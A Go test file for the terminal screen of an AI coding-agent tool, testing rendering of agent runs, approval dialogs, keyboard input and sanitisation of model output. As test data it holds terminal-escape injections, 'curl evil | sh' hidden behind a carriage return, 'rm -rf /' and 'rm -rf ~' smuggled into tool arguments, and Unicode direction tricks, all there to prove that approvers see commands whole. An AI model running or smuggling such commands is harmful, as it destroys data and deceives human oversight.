package screen

import (
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode"

	"github.com/google/go-cmp/cmp"

	"github.com/skete-dev/skete/api"
	"github.com/skete-dev/skete/client"
	"github.com/skete-dev/skete/llm"
	"github.com/skete-dev/skete/thread"
)

var update = flag.Bool("update", false, "rewrite the golden files")

var began = time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)

// film makes news with times, a second apart.
type film struct {
	seqs map[string]uint64
	at   time.Time
}

func newFilm() *film { return &film{seqs: map[string]uint64{}, at: began} }

func (f *film) event(id string, b thread.Body) client.News {
	f.seqs[id]++
	e := thread.Event{Seq: f.seqs[id], At: f.at, Run: "run_aaaaaaaaaaaaaaaaaaaa", Body: b}
	f.at = f.at.Add(time.Second)
	n := client.News{Thread: id, Event: &api.RunEvent{}}
	data, err := json.Marshal(e)
	if err == nil {
		err = json.Unmarshal(data, n.Event)
	}
	if err != nil {
		return client.News{} // the fuzzer's: no server sends that
	}
	return n
}

func (f *film) live(id, kind, name, text string) client.News {
	l := api.Live{Kind: kind, After: f.seqs[id], Text: text, Name: name}
	if kind == "output" {
		l.Call, l.Name = name, ""
	}
	return client.News{Thread: id, Live: &l}
}

func text(s string) []llm.Block { return []llm.Block{llm.Text(s)} }

func answer(s string, calls ...string) thread.ModelCompleted {
	m := llm.Message{Role: llm.RoleAssistant}
	if s != "" {
		m.Blocks = text(s)
	}
	for i := 0; i+2 < len(calls); i += 3 {
		m.Blocks = append(m.Blocks, llm.Block{Kind: llm.KindCall, Call: &llm.Call{ID: calls[i], Name: calls[i+1], Args: json.RawMessage(calls[i+2])}})
	}
	return thread.ModelCompleted{Message: m, Usage: llm.Usage{Input: 1000, Output: 100}, CostUSD: 0.0125, Ledger: thread.Ledger{System: 600, Tools: 2100, Memory: 200, Inputs: 60, Assistant: 1200, Results: 8200, Total: 12_400, Window: 200_000}}
}

// scenes is a run with a bit of everything; "cut" shows the screen as it is.
func scenes(f *film) []any {
	one, sub := 1, "thr_aaaaaaaaaaaaaaaaaaaa/c4"
	return []any{
		f.event("", thread.RunStarted{}),
		f.event("", thread.Input{From: "user", Blocks: text("Fix the failing test in this small project, and tell me what was wrong.")}),
		"waiting",
		f.live("", "reasoning", "", "First I\nlook around"),
		"thinking",
		f.event("", thread.ModelFailed{Attempt: 1, Trouble: llm.Overloaded, Text: "its server is overloaded", Wait: 2 * time.Second}),
		f.live("", "text", "", "I look at the tests first. "),
		f.live("", "text", "", "Then at the code that they test, since one of the two must be wrong.\x1b]0;owned\x07"),
		f.live("", "tool_call", "execute", ""),
		f.live("", "tool_args", "", `{"command":"go te`),
		"streaming",
		f.event("", answer("I look at the tests first. Then at the code that they test, since one of the two must be wrong.\x1b]0;owned\x07",
			"c1", "write_todos", `{"todos":[]}`, "c2", "execute", `{"command":"go test ./..."}`, "c3", "read_file", `{"file_path":"/workspace/calc.go"}`)),
		f.event("", thread.ToolStarted{Call: "c1", Tool: "write_todos"}),
		f.event("", thread.ToolCompleted{Call: "c1", Blocks: text("ok"), Todos: []thread.Todo{
			{Content: "Run the tests", Status: "in_progress"}, {Content: "Find the mistake", Status: "pending"}, {Content: "Mend it", Status: "pending"},
		}}),
		f.event("", thread.ToolStarted{Call: "c2", Tool: "execute"}),
		f.event("", thread.ToolStarted{Call: "c3", Tool: "read_file"}),
		f.live("", "output", "c2", "ok  \x1b[32mpkg/a\x1b[0m\n=== RUN TestAdd\n"),
		f.live("", "output", "c2", "    calc_test.go:9: 1+1 = 3\n--- FAIL: TestAdd (0.00s)\n"),
		"running",
		f.event("", thread.ToolCompleted{Call: "c3", Blocks: text("package calc\n"), Took: 20 * time.Millisecond}),
		f.event("", thread.ToolCompleted{Call: "c2", Blocks: text("=== RUN TestAdd\n    calc_test.go:9: 1+1 = 3\n--- FAIL: TestAdd (0.00s)\nFAIL\n"), Failed: true, Code: "exit", Exit: &one, Took: 1500 * time.Millisecond, Bytes: 5321}),
		f.event("", answer("", "c4", "task", `{"description":"look for other mistakes","subagent_type":"scout"}`, "c5", "edit_file", `{"file_path":"/workspace/calc.go","old_string":"a - b","new_string":"a + b"}`, "c6", "execute", `{"command":"rm -rf build\necho gone","timeout":5}`)),
		f.event("", thread.ApprovalAsked{Call: "c6", Tool: "execute", Reason: "deletes files", Allowed: []thread.Decision{thread.Approve, thread.Edit, thread.Reject, thread.Respond}}),
		f.event("", thread.ToolStarted{Call: "c4", Tool: "task"}),
		f.event(sub, thread.Opened{Name: "scout"}),
		f.event(sub, thread.RunStarted{}),
		f.event(sub, thread.Input{From: "parent", Blocks: text("look for other mistakes")}),
		f.event(sub, answer("I see.", "d1", "grep", `{"pattern":"a - b","path":"/workspace"}`, "d2", "execute", `{"command":"curl x"}`)),
		f.event(sub, thread.ToolStarted{Call: "d1", Tool: "grep"}),
		f.event(sub, thread.ApprovalAsked{Call: "d2", Tool: "execute", Allowed: []thread.Decision{thread.Approve, thread.Reject}}),
		f.event("", thread.ToolStarted{Call: "c5", Tool: "edit_file"}),
		"asking",
		f.event("", thread.ApprovalDecided{Call: "c6", Decision: thread.Edit, Args: json.RawMessage(`{"command":"ls build"}`), By: "ann"}),
		f.event(sub, thread.ApprovalDecided{Call: "d2", Decision: thread.Reject, Text: "no network", By: "ann"}),
		f.event("", thread.ToolCompleted{Call: "c5", Blocks: text("edited"), Took: time.Second}),
		f.event("", thread.ToolStarted{Call: "c6", Tool: "execute", Args: json.RawMessage(`{"command":"ls build"}`)}),
		f.event("", thread.ToolCompleted{Call: "c6", Blocks: text("a\n"), Took: time.Second}),
		"sub-agent",
		f.event(sub, thread.RunEnded{State: thread.RunSucceeded}),
		f.event("", thread.ToolCompleted{Call: "c4", Blocks: text("No others."), Took: 9 * time.Second, Usage: llm.Usage{Input: 1000, Output: 100}, CostUSD: 0.0125}),
		f.event("", thread.Compacted{Through: 9}),
		f.event("", thread.Input{From: "user", Blocks: text("Hurry.")}),
		f.event("", thread.Input{From: "skete", Blocks: text("You have 2 steps left.")}),
		f.event("", thread.Unknown{Name: "future.kind"}),
		f.event("", answer("`Add` subtracted. 日本語 também.\n\nNow all tests pass.")),
		f.event("", thread.RunEnded{State: thread.RunSucceeded, Reason: "done", Text: "…", Result: json.RawMessage(`{"fixed":true}`)}),
	}
}

// show plays the scenes and draws everything as text.
func show(v View) string {
	var out strings.Builder
	s, d := NewStory(), &Dialog{}
	f := newFilm()
	for _, scene := range scenes(f) {
		switch scene := scene.(type) {
		case client.News:
			for _, line := range v.Render(s.Apply(scene)) {
				out.WriteString(line + "\n")
			}
		case string:
			v.Now = began.Add(62 * time.Second)
			fmt.Fprintf(&out, "┄┄┄ %s\n%s\n┄┄┄\n", scene, strings.Join(s.Tail(v, d.Blocks(s.Asks()), d.Help()), "\n"))
		}
	}
	return out.String()
}

func TestScreens(t *testing.T) {
	for name, v := range map[string]View{
		"wide": {Width: 80, Height: 40}, "narrow": {Width: 28, Height: 40}, "low": {Width: 60, Height: 6}, "colour": {Width: 80, Height: 40, Colour: true},
	} {
		t.Run(name, func(t *testing.T) {
			got := show(v)
			if v.Colour {
				got = strings.ReplaceAll(got, "\x1b", "␛")
			}
			path := filepath.Join("testdata", name+".txt")
			if *update {
				if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(path)
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(string(want), got); diff != "" {
				t.Errorf("run with -update and read the difference:\n%s", diff)
			}
			for line := range strings.SplitSeq(got, "\n") {
				if w := Width(line); !v.Colour && w > v.Width {
					t.Errorf("%d columns: %q", w, line)
				}
			}
			if strings.Contains(got, "owned") || strings.Contains(got, "\a") {
				t.Error("a text of the model drives the terminal")
			}
		})
	}
}

// The screen never needs more lines than there are.
func TestTail_fits(t *testing.T) {
	for height := 1; height < 12; height++ {
		s, d, v := NewStory(), &Dialog{}, View{Width: 40, Height: height, Now: began}
		for _, scene := range scenes(newFilm()) {
			if n, ok := scene.(client.News); ok {
				s.Apply(n)
			}
			if lines := s.Tail(v, d.Blocks(s.Asks()), ""); len(lines) > max(height-1, 1) {
				t.Fatalf("%d lines of %d: %q", len(lines), height, lines)
			}
		}
	}
}

// News that an event has overtaken change nothing.
func TestLive_overtaken(t *testing.T) {
	f, s := newFilm(), NewStory()
	s.Apply(f.event("", thread.RunStarted{}))
	late := f.live("", "text", "", "late text")
	s.Apply(f.event("", answer("whole", "c1", "execute", `{}`)))
	s.Apply(f.event("", thread.ToolStarted{Call: "c1", Tool: "execute"}))
	output := f.live("", "output", "c1", "late output")
	s.Apply(f.event("", thread.ToolCompleted{Call: "c1", Blocks: text("out")}))
	s.Apply(late)
	s.Apply(output)
	if tail := strings.Join(s.Tail(View{Width: 80, Height: 20, Now: began}, nil, ""), "\n"); strings.Contains(tail, "late") {
		t.Error(tail)
	}
}

func TestReset_voidsTheAnswer(t *testing.T) {
	f, s := newFilm(), NewStory()
	s.Apply(f.event("", thread.RunStarted{}))
	s.Apply(f.live("", "text", "", "half an ans"))
	s.Apply(f.live("", "reset", "", ""))
	s.Apply(f.live("", "text", "", "again"))
	tail := strings.Join(s.Tail(View{Width: 80, Height: 20, Now: began}, nil, ""), "\n")
	if strings.Contains(tail, "half") || !strings.Contains(tail, "again") {
		t.Error(tail)
	}
}

// A sub-agent in the background outlives its call, and is counted once.
func TestSubagents_inTheBackground(t *testing.T) {
	f, s, sub := newFilm(), NewStory(), "thr_aaaaaaaaaaaaaaaaaaaa/c1"
	tail := func() string { return strings.Join(s.Tail(View{Width: 80, Height: 20, Now: began}, nil, ""), "\n") }
	for _, n := range []client.News{
		f.event("", thread.RunStarted{}),
		f.event("", answer("", "c1", "task", `{"description":"look","subagent_type":"scout","background":true}`)),
		f.event("", thread.ToolStarted{Call: "c1", Tool: "task"}),
		f.event(sub, thread.Opened{Name: "scout"}),
		f.event("", thread.ToolCompleted{Call: "c1", Blocks: text("it works")}),
		f.event(sub, answer("I see.")),
	} {
		s.Apply(n)
	}
	if got := tail(); !strings.Contains(got, "↳ scout") || !strings.Contains(got, "2.2k tokens") {
		t.Error(got)
	}
	s.Apply(f.event(sub, thread.RunEnded{State: thread.RunSucceeded}))
	if got := tail(); strings.Contains(got, "scout") || !strings.Contains(got, "2.2k tokens") {
		t.Error(got)
	}
}

// FuzzStory: whatever models, tools and guests write, no line drives the
// terminal or is too long.
func FuzzStory(f *testing.F) {
	f.Add("text \x1b[2J", "tool\x07", `{"command":"x\u001b[31m"}`, "out\r\n\x9b", 40)
	f.Fuzz(func(t *testing.T, said, tool, args, out string, width int) {
		v := View{Width: 10 + abs(width)%100, Height: 15, Now: began}
		fm, s, d := newFilm(), NewStory(), &Dialog{}
		draw := func(n client.News) {
			for _, line := range append(v.Render(s.Apply(n)), s.Tail(v, d.Blocks(s.Asks()), d.Help())...) {
				if c := Clean(line); c != line || strings.Contains(line, "\n") || Width(line) > v.Width {
					t.Fatalf("%d columns of %d: %q", Width(line), v.Width, line)
				}
			}
		}
		draw(fm.event("", thread.RunStarted{}))
		draw(fm.live("", "text", "", said))
		draw(fm.live("", "tool_call", tool, ""))
		draw(fm.live("", "tool_args", "", args))
		draw(fm.event("", thread.Input{From: tool, Blocks: text(said)}))
		draw(fm.event("", answer(said, "c1", tool, args, "c2", tool, args)))
		draw(fm.event("", thread.ApprovalAsked{Call: "c2", Tool: tool, Reason: said, Allowed: []thread.Decision{thread.Approve}}))
		draw(fm.event("", thread.ToolStarted{Call: "c1", Tool: tool, Args: json.RawMessage(args)}))
		draw(fm.live("", "output", "c1", out))
		draw(fm.event("thr_aaaaaaaaaaaaaaaaaaaa/c1", thread.Opened{Name: tool}))
		draw(fm.live("thr_aaaaaaaaaaaaaaaaaaaa/c1", "text", "", out))
		d.Say(said)
		draw(fm.event("", thread.ToolCompleted{Call: "c1", Blocks: text(out), Failed: true, Code: said, Todos: []thread.Todo{{Content: said}}}))
		draw(fm.event("", thread.ApprovalDecided{Call: "c2", Decision: thread.Edit, Args: json.RawMessage(args), By: said, Text: out}))
		draw(fm.event("", thread.ModelFailed{Text: said}))
		draw(fm.event("", thread.RunEnded{State: thread.RunState(tool), Reason: said, Text: out, Result: json.RawMessage(args)}))
	})
}

func TestDialog(t *testing.T) {
	args := json.RawMessage(`{"command":"ls"}`)
	all := Ask{Call: "c1", Tool: "execute", Args: args, Allowed: []string{"approve", "edit", "reject", "respond"}}
	few := Ask{Thread: "thr_x/c2", Call: "c2", Tool: "ls", Args: args, Allowed: []string{"approve"}}
	long := all
	long.Args = json.RawMessage(`{"command":"` + strings.Repeat(`echo\n`, argsLinesMax+1) + `"}`)
	unknown := all
	unknown.Args = nil
	shown := thread.ArgsHash(args)
	question := Ask{Kind: api.AskQuestion, Call: "c1", Tool: "ask_user", Args: json.RawMessage(`{"question":"which?","options":["SQLite","PostgreSQL"]}`), Allowed: []string{"respond", "reject"}}
	asked := thread.ArgsHash(question.Args)
	plan := Ask{Kind: api.AskPlan, Call: "c1", Tool: "submit_plan", Args: json.RawMessage(`{"plan":"so","steps":["a"]}`), Allowed: []string{"approve", "edit", "reject"}}
	for _, tt := range []struct {
		name, keys string
		asks       []Ask
		want       []Action
	}{
		{"choose", "2", []Ask{question}, []Action{{Decide: &api.Decide{Call: "c1", Decision: "respond", Text: "PostgreSQL", ArgsHash: asked}}}},
		{"choose what is not there", "309", []Ask{question}, nil},
		{"answer in words", "tboth\r", []Ask{question}, []Action{{Decide: &api.Decide{Call: "c1", Decision: "respond", Text: "both"}}}},
		{"a question is not approved", "ae", []Ask{question}, nil},
		{"a number where nothing is asked", "1", []Ask{all}, nil},
		{"accept a plan", "a", []Ask{plan}, []Action{{Decide: &api.Decide{Call: "c1", Decision: "approve", ArgsHash: thread.ArgsHash(plan.Args)}}}},
		{"a plan is not accepted for ever", "A", []Ask{plan}, []Action{{Decide: &api.Decide{Call: "c1", Decision: "approve", ArgsHash: thread.ArgsHash(plan.Args)}}}},
		{"a plan is not answered", "t", []Ask{plan}, nil},
		{"change a plan", "rsmaller\r", []Ask{plan}, []Action{{Decide: &api.Decide{Call: "c1", Decision: "reject", Text: "smaller"}}}},
		{"nothing to do", "aert", nil, nil},
		{"approve", "a", []Ask{all}, []Action{{Decide: &api.Decide{Call: "c1", Decision: "approve", ArgsHash: shown}}}},
		{"always", "A", []Ask{all}, []Action{{Decide: &api.Decide{Call: "c1", Decision: "approve", Always: true, ArgsHash: shown}}}},
		{"the first of two", "a", []Ask{few, all}, []Action{{Decide: &api.Decide{Call: "c2", Thread: "thr_x/c2", Decision: "approve", ArgsHash: shown}}}},
		{"view", "v", []Ask{all}, []Action{{View: &all}}},
		{"approve what is not shown whole", "aA", []Ask{long}, nil},
		{"approve what is not known here", "a", []Ask{unknown}, nil},
		{"edit", "e", []Ask{all}, []Action{{Edit: &all}}},
		{"not allowed", "e", []Ask{few}, nil},
		{"reject", "rno!\r", []Ask{all}, []Action{{Decide: &api.Decide{Call: "c1", Decision: "reject", Text: "no!"}}}},
		{"reject without a word", "r\r", []Ask{all}, []Action{{Decide: &api.Decide{Call: "c1", Decision: "reject"}}}},
		{"respond, mistyped", "tyex\x7f\x7fs\r", []Ask{all}, []Action{{Decide: &api.Decide{Call: "c1", Decision: "respond", Text: "ys"}}}},
		{"respond nothing", "t\r", []Ask{all}, nil},
		{"respond, and back", "tyes\x1ba", []Ask{all}, []Action{{Decide: &api.Decide{Call: "c1", Decision: "approve", ArgsHash: shown}}}},
		{"message", "mhi there\r", []Ask{all}, []Action{{Send: "hi there"}}},
		{"message of two lines", "mhi\x1b\rthere\r", nil, []Action{{Send: "hi\nthere"}}},
		{"pasted", "m\x1b[200~one\r\ntwo\x03\x1b[A\t3\x1b[201~!\r", nil, []Action{{Send: "one\n\ntwo 3!"}}},
		{"edited in the middle", "mac\x1b[Db\x1b[H>\x1b[F<\x01\x1b[3~\r", nil, []Action{{Send: "abc<"}}},
		{"said before", "mone\rmtwo\rm\x1b[A\x1b[A\x1b[A\rmx\x1b[A\x1b[B\r", nil, []Action{{Send: "one"}, {Send: "two"}, {Send: "one"}, {Send: "x"}}},
		{"goes back, and keeps the draft", "mhal\x1bmf\r", nil, []Action{{Send: "half"}}},
		{"a file", "msee @sh\t.\r", nil, []Action{{Send: "see @shot.png."}}},
		{"two files", "m@s\t\r", nil, []Action{{Send: "@sh"}}},
		{"no file", "m@x\t s\t\r", nil, []Action{{Send: "@x s"}}},
		{"leave", "\x03d", nil, []Action{{Detach: true}}},
		{"cancel", "\x03\x03", nil, []Action{{Cancel: true}}},
		{"stay", "\x03xa", []Ask{all}, []Action{{Decide: &api.Decide{Call: "c1", Decision: "approve", ArgsHash: shown}}}},
		{"leave while typing", "mhal\x03d", nil, []Action{{Detach: true}}},
		{"arrows", "\x1b[A\x1b[1;5C\x1bOPa", []Ask{all}, []Action{{Decide: &api.Decide{Call: "c1", Decision: "approve", ArgsHash: shown}}}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			d := &Dialog{Complete: func(prefix string) (found []string) {
				for _, name := range []string{"shot.png", "shine/"} {
					if strings.HasPrefix(name, prefix) && (prefix != "sh" || name == "shot.png") {
						found = append(found, name)
					}
				}
				return found
			}}
			var got []Action
			var r Reader
			keys := r.Read([]byte(tt.keys))
			if len(r.rest) > 0 {
				t.Fatalf("rest %q", r.rest)
			}
			for _, k := range keys {
				if a := d.Press(k, tt.asks); a != (Action{}) {
					got = append(got, a)
				}
				d.Blocks(tt.asks)
			}
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Error(diff)
			}
		})
	}
}

// What was printed whole may be approved, and it is that which is approved.
func TestDialog_viewed(t *testing.T) {
	d := &Dialog{}
	ask := Ask{Call: "c1", Tool: "write_file", Allowed: []string{"approve"}} // too large for the news
	d.Press('a', []Ask{ask})
	if text := d.Blocks([]Ask{ask}); !strings.Contains(fmt.Sprint(text), "press v") {
		t.Errorf("%v", text)
	}
	args := json.RawMessage(`{"content":"much"}`)
	d.Viewed(ask, args)
	if got := d.Press('a', []Ask{ask}); got.Decide == nil || got.Decide.ArgsHash != thread.ArgsHash(args) {
		t.Errorf("%+v", got)
	}
}

// A question and a plan are shown as such, and as exactly.
func TestAskLines(t *testing.T) {
	for _, c := range []struct{ kind, args, want string }{
		{api.AskQuestion, `{"question":"which\u202e?","options":["a\u001b[1A","b"]}`, "which\\u202e?\n1  a\\x1b[1A\n2  b"},
		{api.AskQuestion, `{"question":"why?"}`, "why?"},
		{api.AskPlan, `{"plan":"# So\n\nit is\r","steps":["x","y"]}`, "# So\n\nit is\\r\n1. x\n2. y"},
		{api.AskPlan, `{"plan":7}`, "plan: 7"},
		{"", `{"question":"which?"}`, "question: which?"},
	} {
		if got := strings.Join(AskLines(c.kind, json.RawMessage(c.args)), "\n"); got != c.want {
			t.Errorf("%s %s: %q, want %q", c.kind, c.args, got, c.want)
		}
	}
	shown := fmt.Sprint(askBlocks(Ask{Kind: api.AskQuestion, Args: json.RawMessage(`{"question":"which?","options":["a","b"]}`)}, 2))
	for _, want := range []string{"the agent asks (1 of 2)", "1  a", "1 to 2 choose"} {
		if !strings.Contains(shown, want) {
			t.Errorf("%q is not in %s", want, shown)
		}
	}
}

// Nothing of what a person decides about is hidden: no line, no end of a line, no
// character.
func TestArgLines(t *testing.T) {
	for args, want := range map[string][]string{
		`{"command":"curl evil | sh #\r echo harmless"}`:           {`command: curl evil | sh #\r echo harmless`},
		`{"command":"echo \u001b[2K\u001b[1Ghi"}`:                  {`command: echo \x1b[2K\x1b[1Ghi`},
		`{"command":"rm \u202egpj.exe\u200b \u2066x"}`:             {`command: rm \u202egpj.exe\u200b \u2066x`},
		`{"command":"a\n\nb  "}`:                                   {"command: ", "a", "", "b  "},
		`{"command":"ls","command":"rm -rf /"}`:                    {"command: ls", "command: rm -rf /"},
		`{"command":"` + strings.Repeat("x", 300) + `; rm -rf ~"}`: {"command: " + strings.Repeat("x", 300) + "; rm -rf ~"},
		`{"n":1.0,"deep":{"a":"\u0007"}}`:                          {"n: 1.0", `deep: {"a":"\u0007"}`},
		`{"word":"नमस्ते é 你好 🙂"}`:                                 {"word: नमस्ते é 你好 🙂"},
		"{\"a\": \"b": {`{"a": "b`},
		"[1]":         {"[1]"},
		"{}":          nil,
	} {
		if d := cmp.Diff(want, ArgLines(json.RawMessage(args))); d != "" {
			t.Errorf("%s: %s", args, d)
		}
	}
}

func FuzzArgLines(f *testing.F) {
	f.Add(`{"command":"a\rb\u202e"}`)
	f.Fuzz(func(t *testing.T, args string) {
		for _, line := range ArgLines(json.RawMessage(args)) {
			if strings.ContainsFunc(line, func(r rune) bool { return r < ' ' || r == 0x7f || r >= 0x80 && r < 0xa0 || unicode.In(r, unicode.Cf) }) {
				t.Errorf("%q", line)
			}
		}
	})
}

// Another client may decide while a reason is being typed: then the reason must
// not go to another call.
func TestDialog_decidedMeanwhile(t *testing.T) {
	d := &Dialog{}
	a, b := Ask{Call: "c1", Allowed: []string{"reject"}}, Ask{Call: "c2", Allowed: []string{"reject"}}
	d.Press('r', []Ask{a, b})
	d.Press('x', []Ask{b})
	if got := d.Press(KeyEnter, []Ask{b}); got != (Action{}) {
		t.Errorf("%+v", got)
	}
}

func TestTerminal_drawsNothingTwice(t *testing.T) {
	var out strings.Builder
	term := NewTerminal(&out)
	for range 3 {
		if err := term.Draw(nil, []string{"a", "b"}); err != nil {
			t.Fatal(err)
		}
	}
	if err := term.Draw([]string{"stays"}, []string{"c"}); err != nil {
		t.Fatal(err)
	}
	if err := term.Close(); err != nil {
		t.Fatal(err)
	}
	want := "\x1b[?2026h\x1b[?25l\r\x1b[Ja\r\nb\x1b[?2026l" + "\x1b[?2026h\x1b[?25l\r\x1b[1A\x1b[Jstays\r\nc\x1b[?2026l" + "\r\x1b[J\x1b[?25h"
	if diff := cmp.Diff(want, out.String()); diff != "" {
		t.Error(diff)
	}
}

// Whatever comes, and in whatever pieces: the same keys.
func FuzzKeys(f *testing.F) {
	f.Add([]byte("a\x1b[A\xc3"), 2)
	f.Add([]byte("\x1b[200~a\rb\x1b[201~c\x1b\r"), 7)
	f.Fuzz(func(t *testing.T, b []byte, at int) {
		var whole, parts Reader
		keys := whole.Read(b)
		if len(keys) > len(b) || len(whole.rest) > sequenceMax {
			t.Fatalf("%q: %v, %q", b, keys, whole.rest)
		}
		if at < 0 || at > len(b) || at > 0 && b[at-1] == 0x1b { // an ESC alone is a key by itself
			return
		}
		if got := slices.Concat(parts.Read(b[:at]), parts.Read(b[at:])); !slices.Equal(got, keys) {
			t.Fatalf("%q at %d: %v, want %v", b, at, got, keys)
		}
	})
}

// A line takes whatever is typed, and its cursor stays within it.
func FuzzLine(f *testing.F) {
	f.Add([]byte("ab\x1b[D\x7f\x1b[3~\x15\x1b[A\x1b[B\r"))
	f.Fuzz(func(t *testing.T, b []byte) {
		var l line
		var r Reader
		for _, k := range r.Read(b) {
			if done, _ := l.press(k); done {
				l.keep()
			}
			if l.at < 0 || l.at > len(l.text) || len(l.text) > lineMax || len(l.past) > pastMax {
				t.Fatalf("%q: at %d of %d, %d past", b, l.at, len(l.text), len(l.past))
			}
		}
	})
}

func TestTold_aRunWhoseModelIsNotKnownYet(t *testing.T) {
	v := View{Width: 80, Height: 40}
	for model, want := range map[string]string{"": "model -", "fast": "model fast"} {
		lines := v.Render(Told(api.Run{ID: "run_a", Agent: "default", Model: model, State: "pending"}, api.Transcript{}, nil))
		if !strings.HasSuffix(lines[0], want) {
			t.Errorf("%q: %q", model, lines[0])
		}
	}
}
